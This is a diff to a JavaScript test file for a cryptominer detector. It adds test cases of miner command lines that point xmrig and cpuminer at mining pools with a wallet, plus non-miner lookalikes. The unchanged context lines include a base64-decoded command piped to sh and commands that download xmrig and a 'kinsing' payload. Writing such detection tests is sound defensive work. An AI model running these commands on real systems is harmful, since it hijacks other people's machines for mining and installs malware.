@@ -16,6 +16,13 @@ const MINES = [
   './a stratum2+ssl://host.example.com:80',
   './a -o gulf.moneroocean.stream:10128',
   `./a -o 203.0.113.9:443 -u ${WALLET}`,
+  `./a -o 203.0.113.9:443 -u ${WALLET}${'B'.repeat(11)}`,
+  './cpuminer-avx2 -c config.json',
+  './xmrig-notls -c config.json',
+  './a --coin monero -o 203.0.113.9:443 --tls',
+  './a -o daemon+http://203.0.113.9:18081 -u x',
+  './a --algorithm ghostrider --pool 203.0.113.9:443',
+  './a -o xmr.kryptex.network:7777 -u x',
   `echo ${Buffer.from('./a -o stratum+tcp://h.example.com:1').toString('base64')} | base64 -d | sh`,
   'wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig.tar.gz',
   'curl -sL https://example.com/kinsing -o /tmp/k',
@@ -43,6 +50,9 @@ const DOES_NOT = [
   'find / -name xmrig',
   "grep -r 'stratum+tcp' /var/log",
   'curl https://nanopool.org',
+  'xmrig-exporter --port 9100',
+  'python train.py --algorithm random-forest --coin flip',
+  'cat /tmp/xmrig-notls',
   'nslookup pool.supportxmr.com:3333',
   'java -jar app.jar --algo=rsa --cpu-limit 2',
   'python train.py -a randomforest',
@@ -84,12 +94,22 @@ describe('a miner in a command line', () => {
 
 describe('the name of a mining program', () => {
   it('may have a version or a file extension', () => {
-    for (const name of ['xmrig', 'XMRig', 'xmrig-6.21.0', 'xmrig_v6', 'xmr-stak', 't-rex', 'xmrig.exe']) {
+    for (const name of [
+      'xmrig',
+      'XMRig',
+      'xmrig-6.21.0',
+      'xmrig_v6',
+      'xmr-stak',
+      't-rex',
+      'xmrig.exe',
+      'cpuminer-opt',
+    ]) {
       assert.equal(isMiner(name), true, name);
     }
   });
 
   it('does not match another program', () => {
-    for (const name of ['xmrigger', 'trex', 'miner', 'minder', '6.21', '']) assert.equal(isMiner(name), false, name);
+    for (const name of ['xmrigger', 'trex', 'cpuminer-exporter', 'miner', 'minder', '6.21', ''])
+      assert.equal(isMiner(name), false, name);
   });
 });
